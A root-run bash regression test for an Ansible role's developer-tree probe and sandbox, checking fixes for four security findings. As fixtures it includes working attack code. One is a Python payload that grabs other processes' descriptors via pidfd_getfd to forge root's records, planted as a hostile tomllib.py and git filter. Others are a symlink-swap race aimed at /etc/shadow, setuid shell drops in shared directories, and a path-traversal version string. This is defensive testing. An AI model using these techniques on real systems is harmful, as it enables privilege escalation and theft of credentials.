#!/bin/bash
[ -n "$BASH_VERSION" ] || exec bash "$0" "$@"
# Issue 52's recipes against the developer's-tree pipeline (doc/security.md R28-R31), each on a
# scratch tree under /tmp through the role's own probe (roles/rarperf_devtree tasks/probe.yml,
# run alone by ansible-playbook, its exports and helpers in a scratch directory) or its sandbox
# (files/dev-sandbox.sh); no prefix is touched. Each case failed at c521d07.
# - Finding 1 (R28): a tree whose tomllib.py and git filters take the descriptors of the probe's
#   processes (pidfd_getfd) and write a hash and a build_dir of their own into any file of root's
#   they hold: root's record is its own (the hash of the copy, the build directory under the
#   exports), the other directory stays, the tree's tomllib.py never runs; a tree whose version
#   is a path is refused in one line.
# - Finding 2 (R29): a tree whose helper swaps a directory for a link to /etc while its 16 MiB file
#   is read: nothing of /etc/shadow is copied; a tree of root's with a directory of another
#   account's, or below one, is refused in one line.
# - Finding 3 (R30): a sandbox leaves a set-ID shell in /tmp, /var/tmp, /dev/shm and a
#   world-writable directory; none appears outside it, the next sandbox's account has another id,
#   and whatever the first left cannot write into the second's copy.
# - Finding 6 (R31): a change hidden by skip-worktree or assume-unchanged is dirty; a clean tree
#   and a revision are not.
set -u
cd "$(dirname "$0")/../.." || exit 2
[ "$(id -u)" -eq 0 ] || { echo "needs root"; exit 77; }
. tests/lib/tap.sh
need ansible-playbook jq git python3 setpriv unshare runuser sha256sum
tmp=$(mktemp -d /tmp/rp-it29.XXXXXX)
chmod 0755 "$tmp"
ex=$tmp/exports
# A world-writable directory outside /tmp, /var/tmp and /dev/shm (finding 3).
wdrop=$(mktemp -d /var/cache/rp-it29-drop.XXXXXX)
chmod 1777 "$wdrop"
cleanup() {
	rm -rf "$tmp" "$wdrop"
	rm -f /tmp/it29-sh-* /var/tmp/it29-sh-* /dev/shm/it29-sh-* /run/lock/it29-sh-*
}
trap cleanup EXIT
trap 'exit 130' INT TERM

# probe NAME TREE [REV]: the role's probe of TREE alone; its exit status; the play's output in
# $tmp/NAME.log, the probe's stderr in $tmp/NAME.err, rarperf_devtree_info in $tmp/NAME.json.
cat >"$tmp/probe.yml" <<'YML'
- hosts: localhost
  connection: local
  gather_facts: false
  tasks:
    - name: The probe, and what it said
      block:
        - name: The probe
          ansible.builtin.include_role: {name: rarperf_devtree, tasks_from: probe}
        - name: Its record
          ansible.builtin.copy: {content: "{{ rarperf_devtree_info | to_json }}", dest: "{{ it29_out }}.json"}
        - name: Its words
          ansible.builtin.copy: {content: "{{ rarperf_devtree_probe.stderr }}\n", dest: "{{ it29_out }}.err"}
      rescue:
        - name: Its words
          ansible.builtin.copy:
            content: "{{ ansible_failed_result.stderr | default(ansible_failed_result.msg) }}\n"
            dest: "{{ it29_out }}.err"
        - name: Failed
          ansible.builtin.fail: {msg: the probe failed}
YML
probe() {
	rm -f "$tmp/$1.json" "$tmp/$1.err"
	ANSIBLE_ROLES_PATH=$PWD/roles ansible-playbook -i localhost, "$tmp/probe.yml" \
		-e "$(jq -n --arg t "$2" --arg r "${3:-}" --arg ex "$ex" --arg h "$tmp/helpers" --arg o "$tmp/$1" \
			'{rarperf_devtree_path: $t, rarperf_devtree_rev: $r, rarperf_devtree_exports: $ex,
			  rarperf_devtree_helpers: $h, it29_out: $o}')" >"$tmp/$1.log" 2>&1
}
# thash DIR: the content hash as doc/provisioning.md defines it (a tree without links).
thash() {
	(cd "$1" && find . \( -path ./target -o -path ./.git \) -prune -o \( -type f -o -type l \) -print0 |
		LC_ALL=C sort -z | xargs -0 -r sha256sum -- | sha256sum | cut -d' ' -f1)
}
field() { jq -r "$2" "$tmp/$1.json" 2>/dev/null; }
gitc() { git -C "$1" -c user.name=it29 -c user.email=it29@localhost "${@:2}"; }

# --- the content hash root computes (tree-hash.py) is the documented one, odd names included
mkdir -p "$tmp/names/sub dir" "$tmp/names/.git" "$tmp/names/target"
printf a >"$tmp/names/plain"
printf b >"$tmp/names/back\\slash"
printf c >"$tmp/names/new
line"
printf d >"$tmp/names/sub dir/é"
printf e >"$tmp/names/.git/ignored"
printf f >"$tmp/names/target/ignored"
check "tree-hash.py: the documented hash (find | sort | sha256sum), with a backslash, a newline and a space in names" \
	test "$(python3 -I -S roles/rarperf_devtree/files/tree-hash.py "$tmp/names")" = "$(thash "$tmp/names")"
ln -s /etc/shadow "$tmp/names/link"
h1=$(python3 -I -S roles/rarperf_devtree/files/tree-hash.py "$tmp/names")
rm "$tmp/names/link" && printf '/etc/shadow' >"$tmp/names/link"
check "tree-hash.py: a link counts as its target's name, never followed" \
	test "$h1" = "$(thash "$tmp/names")"

# --- finding 1: the probe's python imports the tree's tomllib.py, a git filter runs the tree's
# code; either takes root's descriptors and writes its own hash and build_dir (R28).
evil='import ctypes, fcntl, os, stat, sys
def it29_evil(tag):
    # Every descriptor of every process it can see (pidfd_open 434, pidfd_getfd 438); into an
    # empty file of another account it may write, a record naming a hash and ../../victim, laid
    # around whatever is written next (the probe report root reads).
    libc = ctypes.CDLL(None, use_errno=True)
    me, seen, found = os.getpid(), 0, []
    pids = {os.getppid()}
    try:
        pids |= {int(p) for p in os.listdir("/proc") if p.isdigit()}
    except OSError:
        pass
    for pid in sorted(pids):
        if pid in (0, me):
            continue
        pfd = libc.syscall(434, pid, 0)
        if pfd < 0:
            continue
        for n in range(64):
            fd = libc.syscall(438, pfd, n, 0)
            if fd < 0:
                continue
            seen += 1
            st = os.fstat(fd)
            acc = fcntl.fcntl(fd, fcntl.F_GETFL) & os.O_ACCMODE
            if stat.S_ISREG(st.st_mode) and st.st_uid != os.getuid() and acc != os.O_RDONLY:
                found.append("pid %d fd %d (uid %d, %d bytes)" % (pid, n, st.st_uid, st.st_size))
                if st.st_size == 0:
                    pre = ("{\"hash\": \"sha256:" + "0123456789abcdef" * 4 +
                           "\", \"build_dir\": \"../../victim\", \"it29\": ").encode()
                    os.pwrite(fd, pre.ljust(8192, b" ") + b"}\n", 0)
                    os.lseek(fd, len(pre), os.SEEK_SET)
            os.close(fd)
        os.close(pfd)
    sys.stderr.write("it29-evil(%s): ran, %d descriptors of %d processes; writable files of another account: %s\n"
                     % (tag, seen, len(pids), "; ".join(found) or "none"))
'
t1=$tmp/tree1
mkdir -p "$t1/src" "$tmp/victim"
echo "another account's work" >"$tmp/victim/notes"
printf '[package]\nname = "it29"\nversion = "1.2.3"\n' >"$t1/Cargo.toml"
printf 'fn main() {}\n' >"$t1/src/main.rs"
printf '%s\nit29_evil("tomllib")\n%s\n' "$evil" 'sys.path = [p for p in sys.path if p not in ("", os.getcwd())]
del sys.modules["tomllib"]
import tomllib' >"$t1/tomllib.py"
printf '%s\nit29_evil("filter")\nsys.stdout.buffer.write(sys.stdin.buffer.read())\n' "$evil" >"$t1/evil.py"
printf '*.rs filter=evil\n' >"$t1/.gitattributes"
gitc "$t1" init -q && gitc "$t1" add -A && gitc "$t1" commit -qm "a tree" &&
	gitc "$t1" config filter.evil.clean 'python3 evil.py' && gitc "$t1" config filter.evil.smudge 'python3 evil.py'
probe f1 "$t1"
rc=$?
h=$(thash "$t1")
# The evil code's own words, one per line (the log holds each task's stderr, JSON-escaped).
said=$(grep -o 'it29-evil([a-z]*): ran.*' "$tmp/f1.err" | sort -u)
check "finding 1: the tree is probed (exit $rc)" test "$rc" -eq 0
check "... its code ran, as the probe's git filter: $(echo "$said" | head -1)" \
	grep -q 'it29-evil(filter): ran' <<<"$said"
check "... and it held no writable file of root's, nor of anyone's but its own" \
	test -z "$(grep -v 'another account: none$' <<<"$said")"
check "... the probe's python never imported the tree's tomllib.py (python3 -I), and read its version" \
	test "$(grep -c 'it29-evil(tomllib)' <<<"$said"):$(field f1 .version)" = 0:1.2.3
check "... root's record: the content hash of the copy ($(field f1 .hash | cut -c1-23)...), the copy under the exports" \
	test "$(field f1 '[.hash, .build_dir] | @tsv')" = "sha256:$h	$ex/tree-${h:0:16}"
check "... which holds the copy" test -f "$ex/tree-${h:0:16}/Cargo.toml"
check "... and the directory the tree named stayed where it was" test -f "$tmp/victim/notes"
check "... and nothing of the probe is left in the exports but the copy" test "$(ls "$ex")" = "tree-${h:0:16}"

t1b=$tmp/tree1b
mkdir -p "$t1b"
printf '[package]\nname = "it29"\nversion = "1.0/../../../../root/x"\n' >"$t1b/Cargo.toml"
probe f1b "$t1b"
rc=$?
said=$(grep -m1 'source tree ' "$tmp/f1b.err")
check "finding 1: a version that is a path is refused in one line (exit $rc: $said)" \
	sh -c '[ "$1" -ne 0 ] && case $2 in *"the probe'"'"'s report: version "*"is not a plain word"*) true ;; *) false ;; esac' - "$rc" "$said"

# --- finding 2: the copy's reader races a directory swapped for a link to /etc (R29).
t2=$tmp/tree2
mkdir -p "$t2"
# A directory whose big file comes before "shadow" in readdir's order (the order find lists).
for i in 00 01 02 03 04 05 06 07 08 09 10 11 12 13 14 15; do
	mkdir "$t2/d$i" && : >"$t2/d$i/t$i" && echo decoy >"$t2/d$i/shadow"
	if [ "$(ls -U "$t2/d$i" | head -1)" = "t$i" ]; then
		head -c 16777216 /dev/zero >"$t2/d$i/t$i"
		race=$i
		break
	fi
	rm -r "$t2/d$i"
done
chown -R nobody:nogroup "$t2"
: >"$tmp/race.log"
chown nobody "$tmp/race.log"
cat >"$tmp/race.py" <<'PY'
import ctypes, os, struct, sys
tree, d, t, log = sys.argv[1:5]
libc = ctypes.CDLL(None, use_errno=True)
ifd = libc.inotify_init1(0)
libc.inotify_add_watch(ifd, os.path.join(tree, d, t).encode(), 0x20)  # IN_OPEN
open(log, "a").write("armed\n")
os.read(ifd, 4096)
os.rename(os.path.join(tree, d), os.path.join(tree, d + ".x"))
os.symlink("/etc", os.path.join(tree, d))
open(log, "a").write("swapped\n")
PY
if [ -n "${race:-}" ]; then
	runuser -u nobody -- timeout 300 python3 "$tmp/race.py" "$t2" "d$race" "t$race" "$tmp/race.log" &
	rpid=$!
	for _ in $(seq 50); do grep -q armed "$tmp/race.log" && break; sleep 0.1; done
	probe f2 "$t2"
	rc=$?
	kill "$rpid" 2>/dev/null
	wait "$rpid" 2>/dev/null
	secret=$(head -1 /etc/shadow)
	check "finding 2: the helper swapped d$race for a link to /etc while t$race was read" grep -q swapped "$tmp/race.log"
	check "... no copy of /etc/shadow anywhere in the exports (probe exit $rc: $(grep 'dev-sandbox.sh: ' "$tmp/f2.err" | tail -1))" \
		sh -c '! grep -rqF -- "$1" "$2"' - "$secret" "$ex"
else
	notok "finding 2: no directory listed its big file before shadow (16 tries)"
fi
t2b=$tmp/tree2b
mkdir -p "$t2b/sub"
echo x >"$t2b/sub/f"
chown nobody "$t2b/sub"
probe f2b "$t2b"
rc=$?
said=$(grep -m1 'dev-sandbox.sh: ' "$tmp/f2b.err")
check "finding 2: a tree of root's with a directory of another account's is refused in one line (exit $rc: $said)" \
	sh -c '[ "$1" -ne 0 ] && case $2 in "dev-sandbox.sh: $3: $3/sub is not root'"'"'s alone"*) true ;; *) false ;; esac' - "$rc" "$said" "$t2b"
mkdir -p "$tmp/nobodys"
chown nobody "$tmp/nobodys"
mkdir -p "$tmp/nobodys/tree"
echo x >"$tmp/nobodys/tree/f"
probe f2c "$tmp/nobodys/tree"
rc=$?
said=$(grep -m1 'dev-sandbox.sh: ' "$tmp/f2c.err")
check "finding 2: a tree below another account's directory is refused in one line (exit $rc: $said)" \
	sh -c '[ "$1" -ne 0 ] && case $2 in "dev-sandbox.sh: $3/tree: $3 is owned by uid "*", neither root nor the tree'"'"'s owner"*) true ;; *) false ;; esac' - "$rc" "$said" "$tmp/nobodys"

# --- finding 3: a sandbox leaves a set-ID shell where others may write; the next one (R30).
sb=roles/rarperf_devtree/files/dev-sandbox.sh
mkdir -p "$tmp/srcA" "$tmp/srcB"
echo a >"$tmp/srcA/a"
printf 'int main(void) { return 0; }\n' >"$tmp/srcB/main.c"
cp "$tmp/srcB/main.c" "$tmp/main.c.orig"
bash "$sb" "$tmp/srcA" "$tmp/wA" -- bash -c 'id -u >"$HOME/uid"
	for d in /tmp /var/tmp /dev/shm "$1" /run/lock; do
		cp /bin/bash "$d/it29-sh-A" 2>/dev/null && chmod 4755 "$d/it29-sh-A" && echo "left $d/it29-sh-A"
	done; true' sandbox-A "$wdrop" >"$tmp/A.out" 2>&1
uida=$(cat "$tmp/wA/home/uid" 2>/dev/null)
left=$(find /tmp /var/tmp /dev/shm /run/lock "$wdrop" -xdev -name 'it29-sh-*' 2>/dev/null | tr '\n' ' ')
check "finding 3: sandbox A (uid ${uida:-?}) left no set-ID shell outside its work directory (${left:-none})" \
	sh -c "[ -n '$uida' ] && [ -z '$left' ]"
check "... nor any file of its uid in /tmp, /var/tmp, /dev/shm or a world-writable directory" \
	sh -c "[ -z \"\$(find /tmp /var/tmp /dev/shm /run/lock '$wdrop' -xdev -uid '${uida:-0}' 2>/dev/null)\" ]"
bash "$sb" "$tmp/srcB" "$tmp/wB" -- bash -c 'id -u >"$HOME/uid"; sleep 6; cat main.c' >"$tmp/B.out" 2>&1 &
bpid=$!
for _ in $(seq 100); do [ -s "$tmp/wB/src/main.c" ] 2>/dev/null && break; sleep 0.1; done
sleep 1
# Another local user runs whatever A left, to write into B's copy while B builds.
for f in /tmp/it29-sh-A /var/tmp/it29-sh-A /dev/shm/it29-sh-A "$wdrop/it29-sh-A" /run/lock/it29-sh-A; do
	[ -x "$f" ] && runuser -u nobody -- "$f" -p -c "echo 'int injected;' >>'$tmp/wB/src/main.c'" 2>/dev/null
done
wait "$bpid"
uidb=$(cat "$tmp/wB/home/uid" 2>/dev/null)
check "finding 3: sandbox B's account has an id never handed out before (A ${uida:-?}, B ${uidb:-?})" \
	sh -c "[ -n '$uida' ] && [ -n '$uidb' ] && [ '$uidb' -gt '$uida' ] && [ '$uida' -ge 1879048192 ] &&
		[ \"\$(cut -d' ' -f1 /var/lib/rarperf/sandbox-ids)\" -ge '$uidb' ]"
check "... B built its own main.c: nothing A left wrote into it" \
	sh -c "grep -q 'return 0' '$tmp/B.out' && ! grep -q injected '$tmp/B.out' && cmp -s '$tmp/wB/src/main.c' '$tmp/main.c.orig'"
check "... both accounts are gone, their groups too" \
	sh -c "! getent passwd '$uida' && ! getent passwd '$uidb' && ! getent group '$uida' && ! getent group '$uidb'"
# An id that owns a file is never handed out: the counter moved (forward only) to the end of the
# ids searched, and a file given the next one.
ids=/var/lib/rarperf/sandbox-ids
next=$(flock "$ids.lock" sh -c 'read -r last searched <"$1" && searched=${searched:-$last} &&
	printf "%s %s\n" "$searched" "$searched" >"$1.new" && mv -f "$1.new" "$1" && echo $((searched + 1))' - "$ids")
: >"$tmp/owned"
chown "$next:$next" "$tmp/owned"
bash "$sb" "$tmp/srcA" "$tmp/wC" -- bash -c 'id -u >"$HOME/uid"' >"$tmp/C.out" 2>&1
uidc=$(cat "$tmp/wC/home/uid" 2>/dev/null)
check "finding 3: an id that owns a file ($next, $tmp/owned) is skipped (the next sandbox's: ${uidc:-?})" \
	sh -c "[ -n '$next' ] && [ -n '$uidc' ] && [ '$uidc' -gt '$next' ]"

# --- finding 6: dirty from the content, not from git's index (R31).
t6=$tmp/tree6
mkdir -p "$t6"
printf 'fn main() {}\n' >"$t6/main.rs"
printf 'a tree\n' >"$t6/README"
gitc "$t6" init -q && gitc "$t6" add -A && gitc "$t6" commit -qm one
head6=$(git -C "$t6" rev-parse HEAD)
probe f6clean "$t6"
check "finding 6: a clean tree: dirty false, its commit, the content hash" \
	sh -c "[ \"\$(jq -c '[.dirty, .commit, .hash]' '$tmp/f6clean.json')\" = '[false,\"$head6\",\"sha256:$(thash "$t6")\"]' ]"
printf 'fn main() { println!("hidden"); }\n' >"$t6/main.rs"
gitc "$t6" update-index --skip-worktree main.rs
probe f6skip "$t6"
check "finding 6: a change marked skip-worktree (git status: '$(git -C "$t6" status --porcelain)'): dirty true, the changed content's hash" \
	sh -c "[ \"\$(jq -c '[.dirty, .commit, .hash]' '$tmp/f6skip.json')\" = '[true,\"$head6\",\"sha256:$(thash "$t6")\"]' ]"
gitc "$t6" update-index --no-skip-worktree main.rs
gitc "$t6" checkout -q -- main.rs
printf 'another readme\n' >"$t6/README"
gitc "$t6" update-index --assume-unchanged README
probe f6assume "$t6"
check "finding 6: a change marked assume-unchanged (git status: '$(git -C "$t6" status --porcelain)'): dirty true" \
	sh -c "[ \"\$(jq -c '[.dirty, .hash]' '$tmp/f6assume.json')\" = '[true,\"sha256:$(thash "$t6")\"]' ]"
probe f6rev "$t6" HEAD
check "finding 6: a revision: dirty false, the commit's content, built from the exports" \
	sh -c "[ \"\$(jq -r '[.dirty, .rev, .commit] | @tsv' '$tmp/f6rev.json')\" = 'false	HEAD	$head6' ] &&
		case \"\$(jq -r .build_dir '$tmp/f6rev.json')\" in '$ex'/tree-*) grep -q 'a tree' \"\$(jq -r .build_dir '$tmp/f6rev.json')/README\" ;; *) false ;; esac"
check "no throwaway account is left" sh -c "! getent passwd | grep -q '^rarperf-sb-'"
tap_status
